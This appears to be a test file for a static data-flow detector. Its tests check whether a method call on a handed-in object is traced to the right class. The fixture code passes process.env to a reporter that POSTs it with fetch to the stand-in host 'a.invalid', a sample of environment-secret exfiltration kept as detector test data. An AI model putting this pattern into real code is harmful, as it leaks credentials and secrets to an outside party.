import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';
const CLASSES = (method: string): string =>
  `class Settings { constructor(all) { this.all = all; } ${method}() { return this.all; } } class Reporter { constructor(settings) { this.settings = settings; } report() { fetch('https://a.invalid', { method: 'POST', body: this.settings.${method}() }); } } new Settings(process.env); exports.Reporter = Reporter;`;

describe('a method of an object that others hand in', () => {
  it('is that of the one class of the file that has it', () => assert.deepEqual(flowLines({ 'index.js': CLASSES('everything') }), [SENT]));

  it('is nobody’s where lists and streams have one of that name', () =>
    assert.deepEqual(flowLines({ 'index.js': CLASSES('entries') }), []));

  it('is nobody’s where two classes have it', () =>
    assert.deepEqual(flowLines({ 'index.js': `class Other { everything() { return 1; } } ${CLASSES('everything')}` }), []));
});
